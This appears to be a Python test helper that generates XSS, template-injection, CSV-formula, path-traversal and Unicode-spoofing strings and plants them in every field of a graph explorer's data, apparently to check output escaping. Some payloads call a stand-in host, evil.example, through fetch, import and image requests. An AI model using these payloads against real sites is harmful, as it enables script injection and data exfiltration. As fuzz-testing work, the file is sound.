"""200 hostile texts, and a graph's data for the explorer with one of them in every place that a document can fill."""

from __future__ import annotations

import copy
import itertools
import json
from collections.abc import Iterator
from typing import Any

Json = Any  # data, also such as no graph holds

# What each would do, if it ran: leave a mark, open a dialog, or call another host.
_ACTS = (
    "window.pwned=1", "alert(1)", "fetch('https://evil.example/x')", "parent.pwned=1", "location='https://evil.example/'",
    "document.title='pwned'", "new Image().src='//evil.example/y'", "import('https://evil.example/z.js')",
)  # fmt: skip
_SHAPES = (
    "</script><script>{}</script>",
    "<script>{}</script>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "'\"><svg/onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}">href</a> href',
    "javascript:{}",
    "JaVaScRiPt:{}//https://",
    "\tjava\nscript:{}",
    "data:text/html,<script>{}</script>",
    "</style><style>@import 'https://evil.example/s.css';</style><script>{}</script>",
    "</option></select></title></textarea><body onload={}>",
    "<math><mtext></p><style><img title='</style><img src onerror={}>'>",
    "<details open ontoggle={}>",
    "<form action='javascript:{}'><input type=submit autofocus onfocus={}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
    "<link rel=stylesheet href='https://evil.example/{}'>",
    "<base href='https://evil.example/{}/'>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}} `${{{}}}` #{{{}}} <%= {} %>",
    "{{% raw %}}{{{{ {} }}}}{{% endraw %}}",
    "]]>\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<!--<script>{}</script>--><!-- ",
)
_ODD = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "undefined", "null", "NaN", "-1", "0",
    "a\u202egnp.exe\u202c", "\u2066isolated\u2069", "\u200b\u200e\u200f\ufeff", "nul\x00bell\x07esc\x1b[31mred",
    "del\x7f\x85", "line\u2028separator\u2029", "\ud800 half", "half \udfff", "\\ud800\\u0000", "\\", "'", '"', "`",
    "&lt;script&gt;", "&#x3c;", '=HYPERLINK("https://evil.example")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "{from}", "{to} {n} {name}", "#&at=x&view=y", "?lang=<b>", "a,b;c@1@2", "%00%0a%zz", "../../etc/passwd", "file:///etc/passwd",
    "//evil.example/", "x" * 2000, "漢" * 1000, "e" + "\u0301" * 400, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    " ", "\u3000", "(", ".*+?^${}()|[]", "/", "a/b#c",
)  # fmt: skip


def texts() -> list[str]:
    """The texts: each shape with each act, then oddities."""
    shaped = [shape.replace("{}", act) for act in _ACTS for shape in _SHAPES]
    return [*(text.replace("{{", "{").replace("}}", "}") for text in dict.fromkeys(shaped)), *_ODD]


def hostile_data(data: Json) -> Json:
    """The data of services/explorer.py with a hostile text in every place: names, ids, addresses, units, sentences."""
    spoilt: Json = copy.deepcopy(data)
    endless = itertools.cycle(texts())
    spoilt["title"] = _pair(endless)
    spoilt["base"] = "javascript:window.pwned=1//"
    for kind in spoilt["kinds"]:
        kind.update(name=_pair(endless), many=_pair(endless))
    for relation in spoilt["relations"]:
        relation.update(
            name=_pair(endless), back=_pair(endless), says=[next(endless) + "{from}{to}", "{to}{from}{from}"]
        )
    for plan in spoilt["plans"]:
        plan.update(name=_pair(endless))
    for place, passage in enumerate(spoilt["passages"]):
        passage.update(at=f"{next(endless)}{place}", text=next(endless))
    for place, thing in enumerate(spoilt["things"]):
        thing.update(
            id=f"{next(endless)}{place}", name=_pair(endless), sort=_pair(endless), also=[[*_pair(endless)], []],
            reading=[next(endless)], web=[next(endless), "https://example.org/'\"><script>window.pwned=1</script>"],
        )  # fmt: skip
        if "at" in thing:
            thing["at"] = f"{next(endless)}{place}"
    spoilt["facts"] = [[thing, _pair(endless), _pair(endless), stated] for thing, _, _, stated in spoilt["facts"]]
    for indicator in spoilt["indicators"]:
        indicator["unit"] = _pair(endless)
        for value in indicator["values"]:
            value.update(name=_pair(endless), period=_pair(endless), printed=next(endless))
    json.dumps(spoilt)
    return spoilt


def _pair(endless: Iterator[str]) -> list[str]:
    return [next(endless), next(endless)]
